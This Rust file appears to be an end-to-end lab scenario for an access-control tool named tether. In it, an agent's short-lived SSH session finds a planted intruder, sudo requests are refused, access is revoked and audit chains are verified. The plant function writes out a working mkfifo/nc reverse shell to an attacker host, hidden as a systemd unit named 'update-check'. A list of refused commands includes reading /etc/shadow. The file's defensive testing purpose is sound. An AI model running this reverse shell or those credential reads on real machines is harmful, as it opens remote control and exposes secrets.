//! The story itself.

use super::teller::{Teller, Told};
use super::{Story, keep};
use crate::agent::{Agent, Connection};
use crate::central::random_name;
use crate::programs::Programs;
use crate::provider::{ALICE, CAROL};
use crate::realm::{Opened, Realm, Stage};
use crate::trail::Trail;
use anyhow::{Context, Result, bail, ensure};
use base64ct::{Base64UrlUnpadded, Encoding};
use serde_json::Value;
use std::io::BufRead;
use std::path::{Path, PathBuf};
use std::process::Child;
use std::time::{Duration, Instant};
use tether_audit::Link;
use tether_testhost::{Host, HostSpec, Image, Storage, Suite};

const HOSTS: [&str; 2] = ["web-01", "web-02"];

/// Tells the story on one suite with a package; `tell` hears each step with what was seen. With `folder`, what an
/// auditor looks at is kept there.
pub fn run_with(suite: Suite, package: &Path, folder: Option<&Path>, tell: &mut dyn FnMut(Told<'_>)) -> Result<Story> {
    let mut teller = Teller::new(tell);
    let realm = teller.step("two hosts, an OpenID provider and central start", || start(suite, package))?;
    let [one, two] = realm.hosts.as_slice() else { bail!("two hosts are wanted") };
    teller.step("both hosts are enrolled: tether enroll", || {
        realm.enrol_all()?;
        Ok(((), "each made its own key, and trusts the root that its one-time token names".to_owned()))
    })?;
    let attacker = teller.step("an attacker's reverse shell on web-01: nc, run by root", || plant(&realm, one))?;
    let alice = teller.step("alice signs in at the provider: password and one-time code", || {
        let token = realm.provider.sign_in(&ALICE)?;
        let shown = claims(&token)?;
        Ok((token, shown))
    })?;

    let (first, agent) = teller.step("her agent opens a session on web-01: tether-agent open", || {
        let (opened, agent) = realm.open(one, &alice)?;
        let shown = format!("{}, after web-01 acknowledged; a certificate for 5 minutes", opened.account);
        Ok(((opened, agent), shown))
    })?;
    let connection = teller.step("ssh, with that certificate", || logged_in(&agent))?;
    let nc = teller.step("sudo ss -tn, sudo ps aux: the reverse shell is found", || find(&connection, &attacker))?;
    for command in ["cat /etc/shadow", &format!("cat /proc/{nc}/maps"), "rm -f /tmp/f", "bash"] {
        teller.step(&format!("sudo {command}: refused"), || refused(&connection, command))?;
    }
    teller.step("the agent is done: its session ends", || {
        connection.close();
        realm.wait_gone(one, &first.session)?;
        Ok(((), left(one, &first.account)?))
    })?;

    let (second, other) = teller.step("a second session, on web-02", || {
        let (opened, agent) = realm.open(two, &alice)?;
        let shown = opened.account.clone();
        Ok(((opened, agent), shown))
    })?;
    let (_live, running) = teller.step("ssh, and a command that runs on", || {
        let connection = other.connect()?;
        let running = start_running(&connection)?;
        Ok(((connection, running), "sleep 1000".to_owned()))
    })?;
    teller.step("carol takes alice's right back: tether revoke human alice@example.org", || {
        revoke(&realm, two, &second, running)
    })?;
    teller.step("the agent asks again with alice's sign-in: refused", || {
        let (ran, _) = realm.try_open(HOSTS[1], &alice)?;
        ensure!(ran.code == 1 && ran.err.contains("[human.revoked]"), "it was not refused: {ran:?}");
        Ok(((), ran.err))
    })?;
    teller.step("both hosts are searched: nothing is left", || {
        left(one, &first.account)?;
        Ok(((), left(two, &second.account)?))
    })?;
    let events = teller.step("the three audit chains hold", || records(&realm))?;
    let sessions = [first.session, second.session];
    let kept =
        folder.map(|folder| teller.step("chains and recordings are kept", || keep::keep(&realm, &sessions, folder)));
    Ok(Story { ok: true, steps: teller.steps, events, kept: kept.transpose()? })
}

fn start(suite: Suite, package: &Path) -> Result<(Realm, String)> {
    let stage = Stage { package, programs: Programs::of_tests()?, storage: Storage::Memory, central: "" };
    let realm = Realm::start(suite, &HOSTS, &stage)?;
    let hosts: Vec<String> = realm.hosts.iter().map(|host| format!("{} at {}", host.name(), host.address())).collect();
    let shown = format!(
        "{} ({}), oidc-provider at {}, central at {}",
        hosts.join(", "),
        suite.name(),
        realm.provider.issuer(),
        realm.central.url()
    );
    Ok((realm, shown))
}

/// A third host plays the attacker and listens.
fn plant(realm: &Realm, host: &Host) -> Result<(Host, String)> {
    let image = Image::ensure(Suite::Bookworm, &mut |_| {})?;
    let attacker = realm.lab.boot(HostSpec::new(&format!("evil-{}", random_name(4)?), &image))?;
    attacker.wait_ready(Duration::from_secs(60))?;
    attacker.sh("systemd-run --quiet nc -lk 4444 && until ss -tln | grep -q :4444; do :; done")?;
    let address = attacker.address();
    let shell = format!("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {address} 4444 >/tmp/f");
    host.sh(&format!(
        "systemd-run --quiet --unit=update-check /bin/sh -c '{shell}'; until ss -tn | grep -q :4444; do :; done"
    ))?;
    Ok((attacker, format!("it calls {address}:4444")))
}

/// What an ID token says of the sign-in.
fn claims(token: &str) -> Result<String> {
    let body = token.split('.').nth(1).context("no JWT")?;
    let bytes = Base64UrlUnpadded::decode_vec(body).map_err(|error| anyhow::anyhow!("no JWT: {error}"))?;
    let claims: Value = serde_json::from_slice(&bytes)?;
    let of = |name: &str| claims[name].as_str().unwrap_or_default().to_owned();
    let amr: Vec<&str> = claims["amr"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
    ensure!(amr == ["pwd", "otp"], "she did not sign in with two factors: {claims}");
    Ok(format!("ID token for {}, amr {}, acr {}", of("email"), amr.join("+"), of("acr")))
}

fn logged_in(agent: &Agent) -> Result<(Connection<'_>, String)> {
    let connection = agent.connect()?;
    let who = connection.run("id")?;
    ensure!(who.code == 0, "{who:?}");
    Ok((connection, who.out))
}

fn find(connection: &Connection<'_>, attacker: &Host) -> Result<(String, String)> {
    let connections = connection.run("sudo ss -tn")?;
    let wanted = format!("{}:4444", attacker.address());
    let found = connections.out.lines().find(|line| line.contains(&wanted));
    let found = found.with_context(|| format!("sudo ss -tn did not show it: {connections:?}"))?.to_owned();
    let processes = connection.run("sudo ps aux")?;
    let is_it = |line: &&str| line.contains(" nc ") && !line.contains("/bin/sh") && line.starts_with("root");
    let nc = processes.out.lines().find(is_it);
    let nc = nc.with_context(|| format!("sudo ps aux did not show it: {processes:?}"))?.to_owned();
    let pid = nc.split_whitespace().nth(1).unwrap_or_default().to_owned();
    Ok((pid, format!("{found}\n{nc}")))
}

fn refused(connection: &Connection<'_>, command: &str) -> Result<((), String)> {
    let ran = connection.run(&format!("sudo {command}"))?;
    ensure!(ran.code == 1 && ran.out.is_empty() && ran.err.contains("[bundle.no_rule]"), "it was not refused: {ran:?}");
    // The hint is the same each time.
    Ok(((), ran.err.lines().next().unwrap_or_default().to_owned()))
}

fn start_running(connection: &Connection<'_>) -> Result<Child> {
    let mut running = connection.start("echo started; exec sleep 1000")?;
    let mut line = String::new();
    std::io::BufReader::new(running.stdout.as_mut().context("no stdout")?).read_line(&mut line)?;
    ensure!(line == "started\n", "{line:?}");
    Ok(running)
}

/// An admin signs in too, and takes alice's right back; the time ends when the client's ssh has ended.
fn revoke(realm: &Realm, host: &Host, session: &Opened, mut running: Child) -> Result<((), String)> {
    let token: PathBuf = realm.files.path().join("carol");
    std::fs::write(&token, realm.provider.sign_in_as_admin(&CAROL)?)?;
    let begun = Instant::now();
    let took = std::thread::spawn(move || running.wait().map(|_| begun.elapsed()));
    let ran = realm.central.as_admin(&token, &["revoke", "human", ALICE.email])?;
    ensure!(ran.code == 0, "{ran:?}");
    realm.wait_gone(host, &session.session)?;
    let took = took.join().map_err(|_| anyhow::anyhow!("the thread that waits for ssh panicked"))??;
    Ok(((), format!("her live session on web-02 ended {} ms after the command was entered", took.as_millis())))
}

/// Looks from outside, as root, for anything of the account.
fn left(host: &Host, account: &str) -> Result<String> {
    let look = format!(
        "getent passwd {account} {account}-ro; ps -eo user:40,args | grep '^{account}'; \
         find / -xdev -name '{account}*' -not -path '/proc/*' 2>/dev/null; \
         find /tmp /var/tmp /dev/shm /run /home /var/spool -xdev -uid +65535 -uid -100000 2>/dev/null; true"
    );
    let found = host.sh(&look)?;
    ensure!(found.is_empty(), "this is left on {}: {found}", host.name());
    Ok("no account, no process, no file".to_owned())
}

/// All records that name alice, of all three chains; each chain was checked.
fn records(realm: &Realm) -> Result<(Vec<Link>, String)> {
    let mut chains = vec![("central".to_owned(), realm.central.trail()?)];
    for host in &realm.hosts {
        chains.push((host.name().to_owned(), Trail::read(host)?.0));
    }
    let counts: Vec<String> = chains.iter().map(|(name, links)| format!("{name}: {} records", links.len())).collect();
    let mut events: Vec<Link> = chains.into_iter().flat_map(|(_, links)| links).collect();
    events.retain(|link| link.event.ids.human.id() == Some(ALICE.email));
    events.sort_by_key(|link| link.time_us);
    Ok((events, counts.join(", ")))
}
